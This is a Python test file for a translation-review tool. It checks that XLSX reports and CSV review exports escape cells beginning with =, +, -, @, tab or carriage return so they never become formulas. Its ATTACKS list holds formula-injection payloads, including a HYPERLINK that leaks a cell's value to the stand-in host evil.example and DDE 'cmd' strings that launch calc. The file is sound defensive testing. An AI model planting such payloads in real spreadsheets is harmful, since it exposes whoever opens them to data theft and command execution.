"""Text that a spreadsheet would run (=, +, -, @, tab, CR first) never becomes a formula:
quote-prefixed text in report.xlsx, a leading ' in the review export CSV (OWASP)."""
from __future__ import annotations

import csv
import zipfile

import openpyxl
import pytest
from review_helpers import seed_links, write_run

from align.cli import main
from align.model import Flag, Link
from align.report.cells import csv_cell, starts_formula
from align.report.xlsx import write_report_xlsx
from align.review.workspace import Workspace

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("value, escaped", [
    ("=1+2", "'=1+2"), ("+1", "+1"), ("-0.5", "-0.5"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), (3, 3), (-2.5, -2.5),
])
def test_csv_cells(value, escaped):
    assert csv_cell(value) == escaped
    assert starts_formula(value) == (escaped != value)


def test_report_xlsx_holds_no_formula(tmp_path):
    zh_sentences = [link.zh for link in seed_links(len(ATTACKS))]
    links = [Link(i, (i,), (i,), zh_sentences[i], attack, 0.7) for i, attack in enumerate(ATTACKS)]
    flags = [Flag(i, "number.mismatch", "error", link.zh, link.en, attack, None, (0, 1), {"en_number": attack})
             for i, (link, attack) in enumerate(zip(links, ATTACKS))]
    path = tmp_path / "report.xlsx"
    write_report_xlsx(path, links, flags, {"links": len(links), "note": "=1+1"})
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any("<f>" in archive.read(n).decode() for n in sheets)
    book = openpyxl.load_workbook(path)
    seen = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if starts_formula(cell.value):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    seen.append(cell.value)
    for attack in ATTACKS:  # kept exactly (openpyxl reads CR back as LF), as text
        assert attack.replace("\r", "\n") in {v.replace("\r", "\n") for v in seen}
    assert "=1+1" in seen


def test_review_export_csv_escapes_comments_reasons_and_names(tmp_path):
    run = write_run(tmp_path / "run", seed_links())
    ws = Workspace(run)
    flag = ws.docs[0].flags[0]
    ws.db.add_flag_event(flag.id, "dismiss", "=evil()", reason="@SUM(A1)")
    ws.db.add_flag_event(flag.id, "comment", "-mallory", comment="=1+2")
    out = tmp_path / "d.csv"
    assert main(["review", "export", str(run), "--format", "csv", "--out", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    row = next(r for r in rows if r["flag_id"] == flag.id)
    assert (row["reviewer"], row["reason"], row["comments"]) == ("'=evil()", "'@SUM(A1)", "'-mallory: =1+2")
    for r in rows:
        assert not any(starts_formula(v) for v in r.values()), r
